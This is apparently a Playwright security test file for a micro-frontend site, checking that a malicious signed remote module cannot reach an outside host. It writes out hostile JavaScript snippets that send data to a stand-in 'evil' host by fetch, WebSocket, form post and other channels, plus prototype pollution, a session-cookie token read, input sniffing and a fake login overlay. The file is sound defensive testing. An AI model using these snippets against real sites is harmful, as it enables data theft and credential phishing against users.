import { expect, logIn, test } from '../fixtures/site.ts';
import { prependStatement, variantOf } from '../fixtures/variants.ts';

/**
 * The attacks of a malicious signed remote other than running foreign code (`integrity.spec.ts`). Each text runs in its file and throws, or
 * answers something falsy, when it got nowhere. A release shares the page with everything else: what `ACCEPTED` holds cannot be stopped there
 * (docs/faults.md lists the protections against it instead).
 */
const STOPPED: Readonly<Record<string, string>> = {
  'tell another site by fetch': `await fetch(EVIL + '/fetch', { mode: 'no-cors' }); return true`,
  'tell another site by an old request': `await new Promise((done, fail) => { const r = new XMLHttpRequest(); r.onload = done; r.onerror = fail; r.open('GET', EVIL + '/xhr'); r.send(); }); return true`,
  'tell another site by a socket': `await new Promise((done, fail) => { const s = new WebSocket(EVIL.replace('http', 'ws') + '/socket'); s.onopen = done; s.onerror = fail; }); return true`,
  'tell another site by an event stream': `await new Promise((done, fail) => { const s = new EventSource(EVIL + '/stream'); s.onopen = done; s.onerror = () => { s.close(); fail(new Error('refused')); }; }); return true`,
  'tell another site by a picture': `await new Promise((done, fail) => { const i = new Image(); i.onload = done; i.onerror = fail; i.src = EVIL + '/picture.svg'; }); return true`,
  'post what was typed to another site': `const sink = document.createElement('iframe'); sink.name = 'sink'; document.body.append(sink);
    const f = document.createElement('form'); f.method = 'post'; f.action = EVIL + '/form'; f.target = 'sink'; document.body.append(f);
    const refused = new Promise((done) => document.addEventListener('securitypolicyviolation', (e) => e.effectiveDirective === 'form-action' && done(false)));
    f.submit(); return refused`,
  'read another site in a frame': `const f = document.createElement('iframe'); f.src = EVIL + '/frame'; document.body.append(f); await new Promise((done) => { f.onload = done; }); return f.contentDocument.body.textContent === 'evil'`,
  'change what every object inherits': `'use strict'; Object.prototype.evil = 1; return true`,
  'listen in on every request': `'use strict'; window.fetch = () => undefined; return true`,
  'read what JSON reads': `'use strict'; JSON.parse = () => undefined; return true`,
  'put itself between every promise': `'use strict'; Promise.prototype.then = () => undefined; return Promise.prototype.then.length === 0`,
};
const ACCEPTED: Readonly<Record<string, string>> = {
  'read the session that the specification keeps readable': `return document.cookie.includes('X-API-TOKEN')`,
  'read and write the storage of the page': `localStorage.setItem('evil', '1'); localStorage.removeItem('evil'); return true`,
  'see what is typed': `document.addEventListener('input', () => undefined, true); return true`,
  'draw over the page': `const d = document.createElement('div'); d.id = 'fake'; d.textContent = '请重新输入密码'; d.style.position = 'fixed'; document.body.append(d); return d.isConnected`,
  'ask the API as the member': `const answer = await fetch('/site/api/v1/user/info', { method: 'POST' }); return answer.status > 0`,
};

/** Tries each of them and leaves in `window.tried` which of them got somewhere. */
function tryEach(attempts: Readonly<Record<string, string>>, evil: string): string {
  const list = Object.entries(attempts).map(([name, code]) => `[${JSON.stringify(name)}, async () => { ${code} }]`);
  const limit = `new Promise((done) => setTimeout(() => done(false), 3000))`;
  return `window.tried = (async () => {
    const EVIL = ${JSON.stringify(evil)}, came = [];
    await Promise.all([${list.join(',')}].map(async ([name, attempt]) => {
      if (await Promise.race([attempt().then((got) => got === true, () => false), ${limit}])) came.push(name);
    }));
    return came;
  })()`;
}

test('a signed remote that turned malicious sends nothing outside and changes nothing of the others [T07] [T10]', async ({
  page,
  site,
}) => {
  const evil = 'http://evil.localhost:1';
  const reports: string[] = [];
  await page.route(`${evil}/**`, (route) => {
    reports.push(route.request().url());
    return route.fulfill({ contentType: 'text/html', body: 'evil', headers: { 'access-control-allow-origin': '*' } });
  });
  const before = (await site.ops.status()).remotes['help']?.version ?? '';
  await site.ops.publish(variantOf('help', '7.0.1', prependStatement('exposed', tryEach({ ...STOPPED, ...ACCEPTED }, evil))));
  await logIn(page);
  await site.ops.activate('help', '7.0.1', 'journey');
  await page.goto('/help/kh');
  await expect(page.getByRole('heading', { level: 1, name: '开户帮助' })).toBeVisible();

  const came = await page.evaluate(() => (window as unknown as { tried: Promise<string[]> }).tried);

  expect(new Set(came)).toEqual(new Set(Object.keys(ACCEPTED)));
  expect(reports).toEqual([]);
  await site.ops.rollback('help', before, 'journey');
});

test('a false log-in over the page is not stopped from being drawn, and is gone with its release [T11]', async ({ page, site }) => {
  const mask = `setTimeout(() => { const f = document.createElement('form'); f.setAttribute('aria-label', '假登录');
    f.append(document.createElement('input')); Object.assign(f.style, { position: 'fixed', inset: '0', zIndex: 99999 }); document.body.append(f) }, 0)`;
  const before = (await site.ops.status()).remotes['help']?.version ?? '';
  await site.ops.publish(variantOf('help', '7.0.2', prependStatement('exposed', mask)));
  await site.ops.activate('help', '7.0.2', 'journey');
  await page.goto('/help/kh');
  const form = page.getByRole('form', { name: '假登录' });
  await expect(form).toBeVisible();

  await site.ops.rollback('help', before, 'journey');
  await site.ops.order('help', 'revoke', { version: '7.0.2' });
  await page.goto('/help/kh');
  await expect(page.getByRole('heading', { level: 1, name: '开户帮助' })).toBeVisible();
  await expect(form).toHaveCount(0);
});
